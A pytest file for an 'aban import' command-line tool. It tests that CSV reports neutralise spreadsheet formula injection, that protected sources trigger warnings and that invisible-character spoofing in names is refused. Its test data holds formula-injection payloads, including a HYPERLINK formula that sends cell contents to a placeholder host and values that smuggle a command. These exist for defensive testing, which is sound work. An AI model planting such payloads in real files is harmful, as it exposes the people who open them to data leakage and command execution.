"""``aban import`` as a user runs it: the --report file, protected sources, --json."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from aban.text.spreadsheet import FORMULA_STARTS
from tests.cli.helpers import run

#: Values a hostile list can put in the cells an issue echoes, each starting with
#: something a spreadsheet runs (full-width forms too).
HOSTILE_IDS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "＝1+1",
    "＋cmd",
    "－2+3",
    "＠SUM(1)",
    "-2+3",
    "+cmd",
]
HOSTILE_SOURCE = "@SUM(1+1)|cmd"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "ws"
    run("init", path, check=True)
    return path


def _report_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_report_csv_neutralises_what_the_file_controls(
    workspace: Path, tmp_path: Path
) -> None:
    # Issue 13, item 3: record ids and source names went into the report as written.
    lines = ["record_id,full_name,age,source"]
    lines += [
        '"{}",Testa Ab,x,{}'.format(rid.replace('"', '""'), HOSTILE_SOURCE)
        for rid in HOSTILE_IDS
    ]
    listing = tmp_path / "=cmd.csv"
    listing.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = tmp_path / "issues.csv"
    proc = run("-w", workspace, "import", listing, "--report", report)
    assert proc.returncode == 1, proc.stderr
    rows = _report_rows(report)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["code", "severity", "file"]
    assert len(body) >= len(HOSTILE_IDS)
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    ids = {row[header.index("record_id")] for row in body}
    assert ids == {"'" + rid for rid in HOSTILE_IDS}
    assert {row[header.index("source")] for row in body} == {"'" + HOSTILE_SOURCE}
    assert {row[header.index("file")] for row in body} == {"'=cmd.csv"}


def test_the_json_report_keeps_values_as_they_are(
    workspace: Path, tmp_path: Path
) -> None:
    listing = tmp_path / "list.csv"
    quoted = HOSTILE_IDS[0].replace('"', '""')
    listing.write_text(f'record_id,full_name,age\n"{quoted}",A B,x\n', encoding="utf-8")
    report = tmp_path / "issues.json"
    proc = run("-w", workspace, "import", listing, "--source", "s", "--report", report)
    assert proc.returncode == 1, proc.stderr
    issues = json.loads(report.read_text(encoding="utf-8"))
    assert {i["record_id"] for i in issues} == {HOSTILE_IDS[0]}


def test_a_protected_source_named_by_the_file_is_warned(
    workspace: Path, tmp_path: Path
) -> None:
    # Issue 13, item 14: rows went into a protected source without a word.
    family = tmp_path / "family.csv"
    family.write_text("record_id,full_name\nw1,Testa Ab\n", encoding="utf-8")
    run("-w", workspace, "import", family, "--source", "family_a", check=True)
    run("-w", workspace, "source", "set", "family_a", "--kind", "family", check=True)
    listing = tmp_path / "list.csv"
    listing.write_text(
        "record_id,full_name,source\nn1,Testb Ab,ngo\nw2,Testc Ab,family_a\n",
        encoding="utf-8",
    )
    proc = run("-w", workspace, "import", listing)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.splitlines()[0] == (
        "warning: list.csv:3:source: the source column adds rows to an existing "
        "protected source (first at this row); check that the file comes from that "
        "source, and import lists from elsewhere with --source NAME "
        "[protected-source-added]"
    )
    assert "family_a" not in proc.stderr
    more = tmp_path / "more.csv"
    more.write_text("record_id,full_name,source\nw3,Testd Ab,family_a\n")
    proc = run("-w", workspace, "import", more, "--json")
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    assert (result["accepted"], result["sources"]) == (1, ["family_a"])
    assert [(i["code"], i["source"]) for i in result["issues"]] == [
        ("protected-source-added", "family_a")
    ]
    assert proc.stderr.startswith("audit head: ")


def test_look_alike_source_names_are_refused(workspace: Path, tmp_path: Path) -> None:
    listing = tmp_path / "list.csv"
    listing.write_text(
        "record_id,full_name,source\nn1,Testb Ab,ngo\u202e_list\n", encoding="utf-8"
    )
    proc = run("-w", workspace, "import", listing)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[0] == (
        "error: list.csv:2:source: the cell holds invisible characters (direction "
        "marks, zero-width characters) that let a source name or record id pass for "
        "another; remove them [invisible-characters]"
    )
    proc = run("-w", workspace, "import", listing, "--source", "ngo\u200b")
    assert (proc.returncode, proc.stdout) == (1, "")
    assert proc.stderr == (
        "Error: a source name must not hold invisible characters (direction marks, "
        "zero-width characters): they make one name look like another; remove them\n"
    )
